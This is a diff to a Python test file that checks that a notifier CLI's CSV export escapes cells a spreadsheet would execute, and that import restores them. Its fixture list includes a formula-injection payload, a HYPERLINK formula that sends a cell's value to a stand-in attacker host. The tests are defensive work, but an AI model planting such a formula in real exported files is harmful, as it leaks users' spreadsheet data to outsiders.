@@ -1,5 +1,6 @@
 """Many subscribers at once: `notifier subscribers import/export` (CSV, JSON lines), and the config
 file's [[subscribers]] applied when the file changes instead of at every start."""
+import csv
 import json
 
 import pytest
@@ -53,6 +54,34 @@ def test_a_unicode_line_separator_inside_a_value_survives_export_and_import(cli,
     code, out, err = cli("subscribers", "import", str(path))
     assert (code, err) == (0, "")
     assert [(r["name"], r["profiles"]) for r in listed(cli)] == [(r["name"], r["profiles"]) for r in before]
+
+
+NAMES_A_SPREADSHEET_RUNS = ['=HYPERLINK("https://evil.example/?"&A1,"Ada")', "+1+1", "-2", "@SUM(A1:A9)",
+                            "'=quoted already", "''+twice"]
+
+
+def test_csv_export_starts_cells_a_spreadsheet_would_run_with_a_quote_and_import_takes_it_off(cli, tmp_path,
+                                                                                             monkeypatch):
+    for i, name in enumerate(NAMES_A_SPREADSHEET_RUNS + ["'Tis Ada"]):
+        assert cli("subscribe", f"u{i}@example.org", "--keywords=-diffusion, kv cache", "--name", name)[0] == 0
+    before = listed(cli)
+    path = tmp_path / "team.csv"
+    assert cli("subscribers", "export", str(path))[0] == 0
+    with path.open(encoding="utf-8-sig", newline="") as fh:
+        cells = list(csv.DictReader(fh))
+    assert [c["name"] for c in cells] == ["'" + n for n in NAMES_A_SPREADSHEET_RUNS] + ["'Tis Ada"]
+    assert {c["profiles"] for c in cells} == {"'-diffusion, kv cache"}
+    monkeypatch.setenv("NOTIFIER_DATABASE_URL", f"sqlite:///{tmp_path / 'other.sqlite'}")
+    assert cli("subscribers", "import", str(path))[0] == 0
+    assert [(r["name"], r["profiles"]) for r in listed(cli)] == [(r["name"], r["profiles"]) for r in before]
+
+
+def test_a_csv_written_by_hand_keeps_its_leading_minus_and_apostrophe(cli, tmp_path):
+    path = tmp_path / "team.csv"
+    path.write_text("address,name,profiles\nada@example.org,'Tis Ada,\"-diffusion, kv cache\nagents\"\n",
+                    encoding="utf-8")
+    assert cli("subscribers", "import", str(path))[0] == 0
+    assert [(r["name"], r["profiles"]) for r in listed(cli)] == [("'Tis Ada", ["-diffusion, kv cache", "agents"])]
 
 
 def test_csv_written_by_hand_is_imported_with_defaults(cli, tmp_path):
